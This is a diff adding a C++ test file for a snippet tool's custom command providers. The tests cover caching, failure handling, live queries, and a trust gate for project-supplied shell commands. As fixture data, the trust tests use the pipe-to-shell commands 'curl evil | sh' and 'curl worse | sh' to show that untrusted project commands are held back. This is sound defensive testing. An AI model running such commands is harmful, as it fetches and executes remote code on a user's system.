@@ -1,0 +1,267 @@
+#include "providers/customprovider.h"
+
+#include "config/configmanagerharness.h"
+#include "platform/fake/fakeprocessrunner.h"
+#include "support/logcapture.h"
+
+#include <gmock/gmock.h>
+
+namespace korvane {
+namespace {
+
+using testing::ElementsAre;
+using testing::IsEmpty;
+using Script = FakeProcessRunner::Script;
+
+std::vector<std::string> labels(const std::vector<Snippet>& snippets) {
+    std::vector<std::string> result;
+    for (const auto& snippet : snippets) {
+        result.push_back(snippet.label);
+    }
+    return result;
+}
+
+CustomProviderConfig providerConfig(std::string id = "tickets", std::string mode = "scan", std::int64_t ttl = 30) {
+    CustomProviderConfig config;
+    config.id = std::move(id);
+    config.label = "Tickets";
+    config.command = "list-tickets";
+    config.mode = std::move(mode);
+    config.ttl = ttl;
+    return config;
+}
+
+class CustomProviderTest : public testing::Test {
+protected:
+    std::shared_ptr<CustomProvider> provider(CustomProviderConfig config, CommandTrust trust = {}) {
+        return std::make_shared<CustomProvider>(std::move(config), runner, std::move(trust), clock);
+    }
+
+    FakeClock clock;
+    std::shared_ptr<FakeProcessRunner> processes = std::make_shared<FakeProcessRunner>(&clock);
+    std::shared_ptr<ShellCommandRunner> runner = std::make_shared<ShellCommandRunner>(processes);
+    test::LogCapture log;
+};
+
+TEST_F(CustomProviderTest, KeepsAResultForTtlSecondsPerRoot) {
+    processes->respondByDefault({.output = "a\nb\n"});
+    auto tickets = provider(providerConfig());
+    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("a", "b"));
+    clock.advance(29.9);
+    processes->respondByDefault({.output = "c\n"});
+    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("a", "b"));
+    EXPECT_EQ(processes->runCount(), 1u);
+    EXPECT_THAT(labels(tickets->snippets("/q")), ElementsAre("c"));
+    clock.advance(0.2);
+    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("c"));
+    EXPECT_EQ(processes->runCount(), 3u);
+
+    const auto request = processes->requests().front();
+    EXPECT_EQ(request.workingDirectory, "/p");
+    EXPECT_EQ(request.timeout, CustomProvider::kScanTimeout);
+    EXPECT_THAT(request.environment, ElementsAre(std::pair<std::string, std::string>("PROJECT_ROOT", "/p")));
+
+    auto uncached = provider(providerConfig("t", "scan", 0));
+    uncached->snippets("/p");
+    uncached->snippets("/p");
+    EXPECT_EQ(processes->runCount(), 5u);
+}
+
+TEST_F(CustomProviderTest, AFailedRunServesTheLastGoodResultWhateverItsAge) {
+    auto tickets = provider(providerConfig());
+    processes->respondByDefault({.exitStatus = 2, .output = "ignored\n"});
+    EXPECT_THAT(tickets->snippets("/p"), IsEmpty());
+
+    processes->respondByDefault({.output = "good\n"});
+    tickets->snippets("/p");
+    clock.advance(3600);
+    processes->respondByDefault({.exitStatus = 1, .output = "bad\n"});
+    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("good"));
+    // A time-out is a failure even when the command would have exited 0: its output is not kept.
+    processes->respondByDefault({.output = "partial\n", .duration = 10.0});
+    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("good"));
+    processes->respondByDefault({.launchError = ENOENT});
+    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("good"));
+    EXPECT_THAT(log.lines(), ElementsAre("[Korvane] Custom provider 'tickets' exited with status 2",
+                                         "[Korvane] Custom provider 'tickets' exited with status 1",
+                                         "[Korvane] Custom provider 'tickets' exited with status 15",
+                                         "[Korvane] Shell command failed for 'list-tickets': No such file or directory",
+                                         "[Korvane] Custom provider 'tickets' exited with status -1"));
+}
+
+TEST_F(CustomProviderTest, BlankOutputIsAnEmptyResultThatIsCachedSilently) {
+    processes->respondByDefault({.output = " \n\t\n  \n"});
+    auto tickets = provider(providerConfig());
+    EXPECT_THAT(tickets->snippets("/p"), IsEmpty());
+    EXPECT_THAT(tickets->snippets("/p"), IsEmpty());
+    EXPECT_EQ(processes->runCount(), 1u);
+    EXPECT_THAT(log.lines(), IsEmpty());
+}
+
+TEST_F(CustomProviderTest, LiveProvidersAnswerQueriesOnlyAndNeverCache) {
+    auto live = provider(providerConfig("search", "live"));
+    EXPECT_THAT(live->snippets("/p"), IsEmpty());
+    EXPECT_EQ(processes->runCount(), 0u);
+
+    processes->respondByDefault({.output = "hit\n"});
+    EXPECT_THAT(labels(live->liveSnippets("/p", "que ry", "org.gnome.Terminal", "Terminal", true)),
+                ElementsAre("hit"));
+    EXPECT_THAT(labels(live->liveSnippets("/p", "que ry", "org.gnome.Terminal", "Terminal", true)),
+                ElementsAre("hit"));
+    EXPECT_EQ(processes->runCount(), 2u);
+    const auto request = processes->requests().front();
+    EXPECT_EQ(request.timeout, CustomProvider::kLiveTimeout);
+    EXPECT_THAT(request.environment,
+                ElementsAre(std::pair<std::string, std::string>("PROJECT_ROOT", "/p"),
+                            std::pair<std::string, std::string>("KORVANE_QUERY", "que ry"),
+                            std::pair<std::string, std::string>("KORVANE_APP_BUNDLE_ID", "org.gnome.Terminal"),
+                            std::pair<std::string, std::string>("KORVANE_APP_NAME", "Terminal"),
+                            std::pair<std::string, std::string>("KORVANE_CASE_SENSITIVE", "1")));
+
+    processes->respondByDefault({.exitStatus = 1, .output = "hit\n"});
+    EXPECT_THAT(live->liveSnippets("/p", "q", "b", "n", false), IsEmpty());
+    EXPECT_THAT(log.lines(), IsEmpty());
+
+    // Only "live" exactly is live.
+    auto scan = provider(providerConfig("wiki", "Live"));
+    EXPECT_THAT(scan->liveSnippets("/p", "q", "b", "n", false), IsEmpty());
+    EXPECT_EQ(processes->runCount(), 3u);
+}
+
+TEST_F(CustomProviderTest, AnUntrustedCommandNeverStartsAndSaysSoOnce) {
+    processes->respondByDefault({.output = "secret\n"});
+    auto scan = provider(providerConfig(), CommandTrust{"/home/u/downloads/repo"});
+    auto live = provider(providerConfig("search", "live"), CommandTrust{"/home/u/downloads/repo"});
+    EXPECT_THAT(scan->snippets("/home/u/downloads/repo"), IsEmpty());
+    EXPECT_THAT(scan->snippets("/home/u/downloads/repo"), IsEmpty());
+    EXPECT_THAT(live->liveSnippets("/home/u/downloads/repo", "q", "b", "n", false), IsEmpty());
+    EXPECT_EQ(processes->runCount(), 0u);
+    EXPECT_THAT(log.lines(),
+                ElementsAre("[Korvane] Custom provider 'tickets' not run: the commands of project "
+                            "'/home/u/downloads/repo' are not trusted yet",
+                            "[Korvane] Custom provider 'search' not run: the commands of project "
+                            "'/home/u/downloads/repo' are not trusted yet"));
+}
+
+TEST_F(CustomProviderTest, IdentifiersAndBadges) {
+    auto tickets = provider(providerConfig());
+    EXPECT_EQ(tickets->snippetID("abc"), "custom:tickets:119f095f750e29fe");
+    EXPECT_EQ(tickets->snippetID("abc"), provider(providerConfig())->snippetID("abc"));
+    EXPECT_NE(tickets->snippetID("abd"), tickets->snippetID("abc"));
+
+    struct Case {
+        std::string label;
+        std::optional<std::string> badge;
+        std::string expected;
+    };
+    const Case cases[] = {
+        {"Tickets", std::nullopt, "TICK"},
+        {"PR", std::nullopt, "PR"},
+        {"straße", std::nullopt, "STRA"},
+        {"ßaum", std::nullopt, "SSAUM"},
+        {"e\u0301tude", std::nullopt, "E\u0301TUD"},
+        {"Tickets", "jira", "jira"},
+        {"Tickets", "", ""},
+    };
+    for (const auto& c : cases) {
+        auto config = providerConfig();
+        config.label = c.label;
+        config.badge = c.badge;
+        EXPECT_EQ(provider(config)->badge(), c.expected) << c.label;
+    }
+}
+
+// The configuration manager hands each custom provider its trust: the global file's commands run,
+// a project's own commands only once trusted, and again only until they change.
+class CustomProviderTrustTest : public test::ConfigManagerTest {
+protected:
+    void SetUp() override {
+        manager.providerFactories.custom = [this](const CustomProviderConfig& config, const CommandTrust& trust) {
+            return CustomProvider::make(config, trust, runner);
+        };
+        writeGlobal(R"({"custom_providers": [{"id": "mine", "label": "Mine", "command": "global-cmd"}]})");
+        manager.loadGlobalConfig();
+    }
+
+    void scanAll() {
+        for (const auto& provider : manager.makeProviders().providers) {
+            provider->snippets(projectRoot());
+        }
+    }
+
+    std::vector<std::string> commandsRun() const {
+        std::vector<std::string> commands;
+        for (const auto& request : processes->requests()) {
+            commands.push_back(request.arguments.back());
+        }
+        return commands;
+    }
+
+    std::shared_ptr<FakeProcessRunner> processes = std::make_shared<FakeProcessRunner>();
+    std::shared_ptr<ShellCommandRunner> runner = std::make_shared<ShellCommandRunner>(processes);
+};
+
+TEST_F(CustomProviderTrustTest, ProjectCommandsRunOnlyOnceTrustedAndUntilTheyChange) {
+    writeProject(R"({"custom_providers": [
+        {"id": "repo", "label": "Repo", "command": "curl evil | sh"},
+        {"id": "mine", "label": "Mine", "command": "override"}]})");
+    manager.setProjectRoot(projectRoot());
+    scanAll();
+    EXPECT_THAT(commandsRun(), ElementsAre());
+    const auto waiting = manager.projectsAwaitingTrust();
+    ASSERT_EQ(waiting.size(), 1u);
+    EXPECT_EQ(waiting[0].projectRoot, projectRoot());
+    EXPECT_THAT(waiting[0].commands, ElementsAre("curl evil | sh", "override"));
+
+    ASSERT_TRUE(manager.trustProjectCommands(waiting[0]).has_value());
+    EXPECT_THAT(manager.projectsAwaitingTrust(), IsEmpty());
+    scanAll();
+    EXPECT_THAT(commandsRun(), ElementsAre("curl evil | sh", "override"));
+
+    // The trust is kept in the configuration folder for the next start.
+    ConfigManager restarted{ConfigLoader(configDir()), nullptr, capabilities};
+    restarted.loadGlobalConfig();
+    restarted.setProjectRoot(projectRoot());
+    EXPECT_THAT(restarted.projectsAwaitingTrust(), IsEmpty());
+
+    writeProject(R"({"custom_providers": [
+        {"id": "repo", "label": "Repo", "command": "curl worse | sh"},
+        {"id": "mine", "label": "Mine", "command": "override"}]})");
+    manager.reloadProjectConfig();
+    ASSERT_EQ(manager.projectsAwaitingTrust().size(), 1u);
+    scanAll();
+    EXPECT_THAT(commandsRun(), ElementsAre("curl evil | sh", "override"));
+}
+
+TEST_F(CustomProviderTrustTest, GlobalCommandsAlwaysRunBesideAnUntrustedProject) {
+    writeProject(R"({"custom_providers": [{"id": "repo", "label": "Repo", "command": "repo-cmd"}]})");
+    manager.setProjectRoot(projectRoot());
+    scanAll();
+    EXPECT_THAT(commandsRun(), ElementsAre("global-cmd"));
+
+    // Trust belongs to one root: the same file elsewhere waits again.
+    ASSERT_TRUE(manager.trustProjectCommands(manager.projectsAwaitingTrust().at(0)).has_value());
+    writeProject(R"({"custom_providers": [{"id": "repo", "label": "Repo", "command": "repo-cmd"}]})", "clone");
+    manager.setProjectRoot(projectRoot("clone"));
+    EXPECT_EQ(manager.projectsAwaitingTrust().size(), 1u);
+
+    // A project without commands of its own waits for nothing.
+    writeProject(R"({"snippets": [{"key": "k", "expand": "v"}]})", "plain");
+    manager.setProjectRoot(projectRoot("plain"));
+    EXPECT_THAT(manager.projectsAwaitingTrust(), IsEmpty());
+}
+
+TEST_F(CustomProviderTrustTest, AnUnreadableTrustFileIsNeitherTrustedNorReplaced) {
+    home.write(".config/korvane/trusted-projects.json", "{not json");
+    writeProject(R"({"custom_providers": [{"id": "repo", "label": "Repo", "command": "repo-cmd"}]})");
+    manager.setProjectRoot(projectRoot());
+    const auto waiting = manager.projectsAwaitingTrust();
+    ASSERT_EQ(waiting.size(), 1u);
+    EXPECT_FALSE(manager.trustProjectCommands(waiting[0]).has_value());
+    EXPECT_EQ(test::readFile(configDir() / "trusted-projects.json"), "{not json");
+    scanAll();
+    EXPECT_THAT(commandsRun(), ElementsAre("global-cmd"));
+}
+
+} // namespace
+} // namespace korvane
